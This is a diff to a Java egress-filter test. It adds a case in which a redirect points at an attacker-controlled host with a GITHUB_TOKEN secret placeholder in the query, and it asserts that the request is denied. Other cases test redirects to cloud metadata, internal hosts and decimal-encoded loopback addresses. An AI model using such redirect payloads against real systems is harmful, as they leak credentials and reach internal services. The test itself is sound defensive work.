@@ -209,6 +209,7 @@ class EgressTest {
       case "/meta" -> LoopbackServer.Reply.redirect(302, "http://169.254.169.254/latest/meta-data/");
       case "/inside" -> LoopbackServer.Reply.redirect(307, "http://inside.example:" + attacker.port() + "/x");
       case "/decimal" -> LoopbackServer.Reply.redirect(302, "http://2130706433:" + attacker.port() + "/");
+      case "/placeholder" -> LoopbackServer.Reply.redirect(302, "http://inside.example:" + attacker.port() + "/?k={{secret:GITHUB_TOKEN}}");
       default -> LoopbackServer.Reply.redirect(301, "http://elsewhere.example/");
     });
     egress(boundRule(), "http://169.254.169.254/", "http://inside.example:" + attacker.port() + "/");
@@ -218,6 +219,8 @@ class EgressTest {
     assertEquals("internal-address", ((EgressDeniedException) e.getCause()).reason());
     e = denied("redirect-denied", () -> egress.send(EgressRequest.builder("tool", "GET", boundUrl("/decimal")).build()));
     assertEquals("non-canonical-host", ((EgressDeniedException) e.getCause()).reason());
+    e = denied("redirect-denied", () -> egress.send(EgressRequest.builder("tool", "GET", boundUrl("/placeholder")).build()));
+    assertEquals("bad-placeholder", ((EgressDeniedException) e.getCause()).reason());
     e = denied("redirect-denied", () -> egress.send(EgressRequest.builder("tool", "GET", boundUrl("/other")).build()));
     assertEquals("host-not-allowed", ((EgressDeniedException) e.getCause()).reason());
     assertEquals(0, attacker.connections());
